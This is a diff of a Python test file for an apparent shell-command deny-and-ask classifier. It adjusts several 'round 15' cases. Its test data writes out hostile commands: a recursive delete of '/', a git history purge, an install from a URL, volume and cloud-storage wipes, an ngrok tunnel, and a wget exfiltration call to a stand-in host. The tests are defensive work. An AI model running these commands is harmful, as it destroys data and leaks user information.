@@ -119,7 +119,7 @@ def test_each_class_is_denied_with_its_rule_and_reason(command: str, rule: str, 
             ".env",
         ),
         ("terraform workspace delete staging", "infra-change", "workspace delete"),
-        ("sqlite3 app.db < migrations/drop_all.sql", "sql-stdin", "SQL fed"),
+        ("sqlite3 app.db < /tmp/drop_all.sql", "sql-stdin", "SQL fed"),  # round 15: own file runs
         (
             'python3 -c "import sys, shutil; shutil.rmtree(sys.argv[1])" /',
             "rm-recursive",
@@ -406,7 +406,7 @@ def test_round8_classes_are_denied(command: str, rule: str) -> None:
         "npm config set registry https://registry.npmjs.org/",
         "echo 'source ~/.cargo/env' >> ~/.bashrc",
         "tmux new -d 'npm run dev'",
-        "sqlite3 ./dev.db < ./migrations/002.sql",
+        "sqlite3 ./dev.db < ~/Downloads/002.sql",  # round 15: the workspace's own file runs
         "tflint --init",
         "vim src/main.c",
         "pg_dump -h db.prod.internal app > x.sql",
@@ -766,7 +766,7 @@ def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
         # history purged for good, installs from an address, volumes, storage, tunnels
         ("git reflog expire --expire=now --all && git gc --prune=now", "git-purge-history"),
         ("pip install https://files.example.net/requests-2.31.0.tar.gz", "install-from-url"),
-        ("docker-compose down -v", "container-volumes-delete"),
+        ("podman volume prune -f", "container-volumes-delete"),  # round 15: compose down -v asks
         ("gcloud storage rm -r gs://b", "cloud-storage-wipe"),
         ("ngrok http 8000", "reverse-tunnel"),
         ("wget https://x.example/?u=$USER", "exfiltration"),
